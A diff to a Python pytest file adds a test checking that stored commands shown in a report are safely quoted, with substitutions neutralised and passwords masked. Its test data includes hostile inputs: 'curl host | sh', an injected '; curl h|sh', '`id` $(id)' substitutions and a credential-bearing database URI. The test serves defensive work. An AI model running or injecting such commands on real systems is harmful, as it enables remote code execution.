@@ -3,6 +3,7 @@ from __future__ import annotations
 from dataclasses import replace
 
 import pytest
+from pytest import param
 
 from ablate.analysis.findings import SeedRange, Verdict
 from ablate.report.next_step import next_step, with_replicates
@@ -39,6 +40,28 @@ def data_with(study: Study, *, verdict: Verdict, command: str = COMMAND) -> Repo
 )
 def test_the_command_asks_for_the_seeds(xyz: Study, command: str, expected: str) -> None:
     assert with_replicates(command, xyz, seeds=8) == expected
+
+
+@pytest.mark.parametrize(
+    ("stored", "shown"),
+    [
+        param("curl host | sh", "python -m ablate --multirun study=xyz", id="another_program"),
+        param(f"{COMMAND} 'open", "python -m ablate --multirun study=xyz", id="open_quotation"),
+        param(
+            f"{COMMAND}; curl h|sh", f"{COMMAND[:-9]}'study=xyz;' curl 'h|sh'", id="two_commands"
+        ),
+        param(f"{COMMAND} `id` $(id)", f"{COMMAND} '`id`' '$(id)'", id="substitutions"),
+        param(
+            f"{COMMAND} store.uri=postgresql://bob:to/p@db/x",
+            f"{COMMAND} 'store.uri=postgresql://***@db/x'",
+            id="password",
+        ),
+    ],
+)
+def test_a_command_that_a_plan_holds_is_safe_to_copy(xyz: Study, stored: str, shown: str) -> None:
+    data = data_of(xyz, runs_of(xyz, failing=False))
+    record = replace(data.record, provenance={"command": stored})
+    assert report_data(record, data.analysis).commands[0] == shown
 
 
 def test_seeds_in_rounds_stay_in_rounds(xyz: Study) -> None:
